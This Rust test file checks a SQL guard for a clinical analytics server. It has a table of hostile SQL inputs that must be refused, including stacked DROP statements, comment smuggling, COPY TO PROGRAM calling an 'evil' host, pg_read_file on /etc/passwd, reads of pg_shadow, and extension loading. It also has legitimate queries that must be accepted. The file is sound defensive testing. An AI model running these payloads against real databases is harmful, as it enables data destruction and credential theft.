//! The guard against hostile SQL text (F23): every input in the hostile list is
//! refused for the reason named beside it, on the dialect(s) named; every query in
//! the legitimate list is accepted, and actually runs on a seeded SQLite database.

mod common;
mod sql_support;

use server::dataset::{GenConfig, OnExisting, seed};
use server::sql::guard::{GuardError, MAX_SQL_BYTES, check};
use server::sql::{Dialect, render};
use sql_support::MODEL;

/// Which dialect(s) a case applies to.
#[derive(Clone, Copy, Debug)]
enum On {
    Both,
    Sqlite,
    Postgres,
}

impl On {
    fn dialects(self) -> Vec<Dialect> {
        match self {
            On::Both => Dialect::ALL.to_vec(),
            On::Sqlite => vec![Dialect::Sqlite],
            On::Postgres => vec![Dialect::Postgres],
        }
    }
}

/// (input, dialects, expected error code, what the attack is)
const HOSTILE: &[(&str, On, &str, &str)] = &[
    ("", On::Both, "empty", "nothing"),
    ("   \n\t ", On::Both, "empty", "whitespace only"),
    (
        "SELECT id FROM wounds; DROP TABLE wounds",
        On::Both,
        "stacked_statements",
        "stacked DROP",
    ),
    (
        "SELECT id FROM wounds;DELETE FROM patients;",
        On::Both,
        "stacked_statements",
        "stacked DELETE",
    ),
    (
        "SELECT id FROM wounds; SELECT id FROM patients",
        On::Both,
        "stacked_statements",
        "two SELECTs",
    ),
    (
        "SELECT id FROM wounds -- ; DROP TABLE wounds",
        On::Both,
        "comment",
        "line comment",
    ),
    (
        "SELECT id FROM wounds /* ; DELETE FROM wounds */",
        On::Both,
        "comment",
        "block comment",
    ),
    (
        "SELECT id FROM wounds /* /* */ ; DROP TABLE wounds; /* */",
        On::Both,
        "comment",
        "nested comment differential",
    ),
    (
        "SELECT id FROM wounds WHERE id = 1 --\n; DELETE FROM wounds",
        On::Both,
        "comment",
        "comment then newline",
    ),
    (
        "SELECT id FROM wounds\0; DROP TABLE wounds",
        On::Both,
        "control_character",
        "NUL byte",
    ),
    (
        "INSERT INTO wounds (id) VALUES (1)",
        On::Both,
        "not_a_select",
        "INSERT",
    ),
    (
        "UPDATE wounds SET status = 'healed'",
        On::Both,
        "not_a_select",
        "UPDATE",
    ),
    ("DELETE FROM assessments", On::Both, "not_a_select", "DELETE"),
    ("DROP TABLE wounds", On::Both, "not_a_select", "DROP"),
    (
        "CREATE TABLE loot AS SELECT * FROM patients",
        On::Both,
        "not_a_select",
        "CREATE TABLE AS",
    ),
    (
        "PRAGMA table_info(patients)",
        On::Sqlite,
        "not_a_select",
        "PRAGMA",
    ),
    (
        "ATTACH DATABASE '/tmp/loot.db' AS loot",
        On::Sqlite,
        "not_a_select",
        "ATTACH",
    ),
    (
        "COPY patients TO '/tmp/patients.csv'",
        On::Postgres,
        "not_a_select",
        "COPY TO file",
    ),
    (
        "COPY (SELECT * FROM patients) TO PROGRAM 'curl evil'",
        On::Postgres,
        "not_a_select",
        "COPY TO PROGRAM",
    ),
    ("SET statement_timeout = 0", On::Postgres, "not_a_select", "SET"),
    (
        "SET TRANSACTION READ WRITE",
        On::Postgres,
        "not_a_select",
        "SET TRANSACTION",
    ),
    (
        "EXPLAIN ANALYZE SELECT * FROM wounds",
        On::Both,
        "not_a_select",
        "EXPLAIN ANALYZE",
    ),
    ("VALUES (1), (2)", On::Both, "not_a_select", "bare VALUES"),
    (
        "WITH gone AS (DELETE FROM wounds RETURNING *) SELECT * FROM gone",
        On::Postgres,
        "not_a_select",
        "data-changing CTE",
    ),
    (
        "SELECT * INTO loot FROM patients",
        On::Postgres,
        "select_into",
        "SELECT INTO",
    ),
    (
        "SELECT * FROM wounds FOR UPDATE",
        On::Postgres,
        "locking_clause",
        "FOR UPDATE",
    ),
    (
        "SELECT * FROM wounds FOR SHARE",
        On::Postgres,
        "locking_clause",
        "FOR SHARE",
    ),
    (
        "SELECT pg_read_file('/etc/passwd')",
        On::Postgres,
        "forbidden_function",
        "pg_read_file",
    ),
    (
        "SELECT pg_sleep(10)",
        On::Postgres,
        "forbidden_function",
        "pg_sleep",
    ),
    (
        "SELECT id FROM wounds WHERE pg_sleep(5) IS NULL",
        On::Postgres,
        "forbidden_function",
        "pg_sleep in WHERE",
    ),
    (
        "SELECT pg_terminate_backend(1)",
        On::Postgres,
        "forbidden_function",
        "pg_terminate_backend",
    ),
    (
        "SELECT pg_catalog.pg_sleep(1)",
        On::Postgres,
        "forbidden_function",
        "schema-qualified pg_sleep",
    ),
    (
        "SELECT setval('wounds_id_seq', 1)",
        On::Postgres,
        "forbidden_function",
        "setval",
    ),
    (
        "SELECT nextval('wounds_id_seq')",
        On::Postgres,
        "forbidden_function",
        "nextval",
    ),
    (
        "SELECT lo_import('/etc/passwd')",
        On::Postgres,
        "forbidden_function",
        "lo_import",
    ),
    (
        "SELECT lo_export(16384, '/tmp/x')",
        On::Postgres,
        "forbidden_function",
        "lo_export",
    ),
    (
        "SELECT dblink_exec('host=evil', 'DROP TABLE x')",
        On::Postgres,
        "forbidden_function",
        "dblink_exec",
    ),
    (
        "SELECT set_config('default_transaction_read_only', 'off', false)",
        On::Postgres,
        "forbidden_function",
        "set_config",
    ),
    (
        "SELECT current_setting('data_directory')",
        On::Postgres,
        "forbidden_function",
        "current_setting",
    ),
    (
        "SELECT query_to_xml('select * from pg_shadow', true, true, '')",
        On::Postgres,
        "forbidden_function",
        "query_to_xml",
    ),
    (
        "SELECT load_extension('/tmp/evil.so')",
        On::Sqlite,
        "forbidden_function",
        "load_extension",
    ),
    (
        "SELECT readfile('/etc/passwd')",
        On::Sqlite,
        "forbidden_function",
        "readfile",
    ),
    (
        "SELECT writefile('/tmp/x', full_name) FROM patients",
        On::Sqlite,
        "forbidden_function",
        "writefile",
    ),
    (
        "SELECT id FROM wounds WHERE random() < 0.5",
        On::Both,
        "function_not_allowed",
        "function off the list",
    ),
    (
        "SELECT upper(full_name), hex(mrn) FROM patients",
        On::Sqlite,
        "function_not_allowed",
        "hex() not listed",
    ),
    (
        "SELECT * FROM sqlite_master",
        On::Sqlite,
        "unknown_table",
        "SQLite catalog",
    ),
    (
        "SELECT * FROM main.patients",
        On::Sqlite,
        "unknown_table",
        "schema-qualified table",
    ),
    (
        "SELECT usename, passwd FROM pg_shadow",
        On::Postgres,
        "unknown_table",
        "PostgreSQL password table",
    ),
    (
        "SELECT * FROM pg_catalog.pg_user",
        On::Postgres,
        "unknown_table",
        "pg_catalog",
    ),
    (
        "SELECT * FROM information_schema.tables",
        On::Both,
        "unknown_table",
        "information_schema",
    ),
    (
        "SELECT * FROM users",
        On::Both,
        "unknown_table",
        "Clarion's own user table",
    ),
    (
        "SELECT id FROM wounds UNION SELECT id FROM sessions",
        On::Both,
        "unknown_table",
        "UNION into another table",
    ),
    (
        "WITH pg_user AS (SELECT * FROM pg_user) SELECT * FROM pg_user",
        On::Postgres,
        "unknown_table",
        "CTE shadowing its own source",
    ),
    (
        "SELECT * FROM (WITH x AS (SELECT 1 AS a) SELECT a FROM x) AS s, x",
        On::Both,
        "unknown_table",
        "CTE used out of scope",
    ),
    (
        "SELECT * FROM generate_series(1, 100000000)",
        On::Postgres,
        "table_function",
        "table function",
    ),
    (
        "SELECT password_hash FROM wounds",
        On::Both,
        "unknown_column",
        "column not in the model",
    ),
    (
        "SELECT w.secret FROM wounds AS w",
        On::Both,
        "unknown_column",
        "qualified column not in the model",
    ),
    (
        "SELECT ctid, xmin FROM wounds",
        On::Postgres,
        "unknown_column",
        "system columns",
    ),
    (
        "DELETE FROM wounds WHERE id IN (SELECT id FROM wounds)",
        On::Both,
        "not_a_select",
        "DELETE with subquery",
    ),
    ("SELECT 1 FROM wounds WHERE", On::Both, "parse", "broken SQL"),
];

#[test]
fn every_hostile_input_is_refused_for_its_reason() {
    assert!(HOSTILE.len() >= 30);
    let mut failures = Vec::new();
    for (sql, on, code, what) in HOSTILE {
        for d in on.dialects() {
            match check(sql, &MODEL, d) {
                Err(e) if e.code() == *code => {}
                other => failures.push(format!(
                    "{what} ({d:?}): expected {code}, got {other:?}\n    {sql:?}"
                )),
            }
        }
    }
    assert!(
        failures.is_empty(),
        "{} hostile inputs not refused as expected:\n{}",
        failures.len(),
        failures.join("\n")
    );
}

#[test]
fn oversized_input_is_refused_before_parsing() {
    let sql = format!(
        "SELECT id FROM wounds WHERE id IN ({})",
        vec!["1"; MAX_SQL_BYTES / 2].join(",")
    );
    assert!(matches!(
        check(&sql, &MODEL, Dialect::Sqlite),
        Err(GuardError::TooLong { .. })
    ));
}

#[test]
fn refusals_name_the_offending_object() {
    assert_eq!(
        check("SELECT pg_read_file('/etc/passwd')", &MODEL, Dialect::Postgres),
        Err(GuardError::ForbiddenFunction {
            name: "pg_read_file".into()
        })
    );
    assert_eq!(
        check("SELECT * FROM pg_shadow", &MODEL, Dialect::Postgres),
        Err(GuardError::UnknownTable {
            name: "pg_shadow".into()
        })
    );
    assert_eq!(
        check("PRAGMA writable_schema = 1", &MODEL, Dialect::Sqlite),
        Err(GuardError::NotASelect {
            kind: "PRAGMA".into()
        })
    );
}

/// (query, dialects) — questions a clinician might have, written by hand.
const LEGITIMATE: &[(&str, On)] = &[
    ("SELECT COUNT(*) FROM wounds WHERE status = 'open'", On::Both),
    ("select count(*) from Wounds where STATUS = 'open';", On::Both),
    (
        "SELECT c.name, COUNT(*) AS n FROM wounds w JOIN clinics c ON c.id = w.clinic_id \
         GROUP BY c.name ORDER BY n DESC LIMIT 5",
        On::Both,
    ),
    (
        "WITH recent AS (SELECT * FROM assessments WHERE assessed_on >= '2026-10-01') \
         SELECT wound_id, MAX(area_cm2) AS biggest FROM recent GROUP BY wound_id ORDER BY biggest DESC",
        On::Both,
    ),
    (
        "SELECT AVG(julianday(healed_date) - julianday(onset_date)) FROM wounds WHERE healed_date IS NOT NULL",
        On::Sqlite,
    ),
    (
        "SELECT strftime('%Y-%m', assessed_on) AS month, AVG(area_cm2) FROM assessments GROUP BY month",
        On::Sqlite,
    ),
    (
        "SELECT date_trunc('month', assessed_on) AS m, AVG(area_cm2) FROM assessments GROUP BY 1 ORDER BY 1",
        On::Postgres,
    ),
    (
        "SELECT AVG(healed_date - onset_date) FROM wounds WHERE healed_date IS NOT NULL",
        On::Postgres,
    ),
    (
        "SELECT etiology, ROUND(100.0 * SUM(CASE WHEN status = 'healed' THEN 1 ELSE 0 END) / COUNT(*), 1) AS rate \
         FROM wounds GROUP BY etiology ORDER BY rate DESC",
        On::Both,
    ),
    (
        "SELECT w.id FROM wounds w WHERE EXISTS (SELECT 1 FROM assessments a \
         WHERE a.wound_id = w.id AND a.tissue_type = 'necrotic')",
        On::Both,
    ),
    (
        "SELECT full_name FROM patients WHERE id IN (SELECT patient_id FROM wounds WHERE etiology = 'diabetic_foot_ulcer')",
        On::Both,
    ),
    (
        "SELECT region FROM clinics UNION SELECT name FROM clinicians",
        On::Both,
    ),
    (
        "SELECT p.sex, COUNT(DISTINCT p.id) FROM patients p JOIN wounds w ON w.patient_id = p.id \
         WHERE w.infected GROUP BY p.sex HAVING COUNT(*) > 1",
        On::Both,
    ),
    (
        "SELECT wound_id, area_cm2, ROW_NUMBER() OVER (PARTITION BY wound_id ORDER BY assessed_on DESC) AS rn \
         FROM assessments",
        On::Both,
    ),
    (
        "SELECT COALESCE(stage, 'none') AS stage, COUNT(*) FROM wounds GROUP BY COALESCE(stage, 'none')",
        On::Both,
    ),
    (
        "SELECT CAST(bmi AS INTEGER) AS b, COUNT(*) FROM patients GROUP BY CAST(bmi AS INTEGER)",
        On::Both,
    ),
    (
        "SELECT EXTRACT(YEAR FROM onset_date) AS y, COUNT(*) FROM wounds GROUP BY 1",
        On::Postgres,
    ),
    (
        "SELECT id FROM wounds WHERE clinic_id = $1 AND onset_date >= $2",
        On::Postgres,
    ),
    (
        "SELECT id FROM wounds WHERE clinic_id = ? AND onset_date >= ?",
        On::Sqlite,
    ),
];

#[test]
fn legitimate_selects_are_accepted() {
    let mut failures = Vec::new();
    for (sql, on) in LEGITIMATE {
        for d in on.dialects() {
            if let Err(e) = check(sql, &MODEL, d) {
                failures.push(format!("{d:?}: {e}\n    {sql}"));
            }
        }
    }
    assert!(
        failures.is_empty(),
        "legitimate queries refused:\n{}",
        failures.join("\n")
    );
}

#[test]
fn the_renderers_own_sql_passes_the_guard() {
    use server::engine::plan::{Dimension, Intent, QueryPlan};
    use server::semantic::{Grain, MeasureAgg};
    let mut p = QueryPlan::new("wounds", sql_support::today());
    p.intent = Intent::Trend;
    p.dimensions = vec![Dimension::Time {
        attribute: "wounds.onset_date".into(),
        grain: Grain::Quarter,
    }];
    p.metrics = vec![server::engine::plan::Metric {
        agg: MeasureAgg::Median,
        attribute: Some("wounds.days_open".into()),
        condition: None,
        label: "Median days open".into(),
    }];
    for d in Dialect::ALL {
        let r = render(&p, &MODEL, d).unwrap();
        assert_eq!(check(&r.sql, &MODEL, d), Ok(()), "{}", r.sql);
    }
}

/// The accepted queries are real queries: they run on the seeded demo schema.
#[tokio::test]
async fn accepted_queries_run_on_the_demo_schema() {
    for db in common::all_backends().await {
        seed(&db.db, &GenConfig::new(1, 3), OnExisting::Refuse)
            .await
            .expect("seed");
        let dialect = Dialect::from(db.db.backend());
        let day = chrono::NaiveDate::from_ymd_opt(2020, 1, 1).unwrap();
        for (sql, on) in LEGITIMATE {
            if !on.dialects().contains(&dialect) {
                continue;
            }
            let params = sql.contains('?') || sql.contains("$1");
            let result = match &db.db {
                server::db::Database::Sqlite(pool) => {
                    let q = sqlx::query(sql);
                    let q = if params { q.bind(1_i64).bind(day) } else { q };
                    q.fetch_all(pool).await.map(|rows| rows.len())
                }
                server::db::Database::Postgres(pool) => {
                    let q = sqlx::query(sql);
                    let q = if params { q.bind(1_i64).bind(day) } else { q };
                    q.fetch_all(pool).await.map(|rows| rows.len())
                }
            };
            result.unwrap_or_else(|e| panic!("{dialect:?}: {sql}: {e}"));
        }
        db.cleanup().await;
    }
}
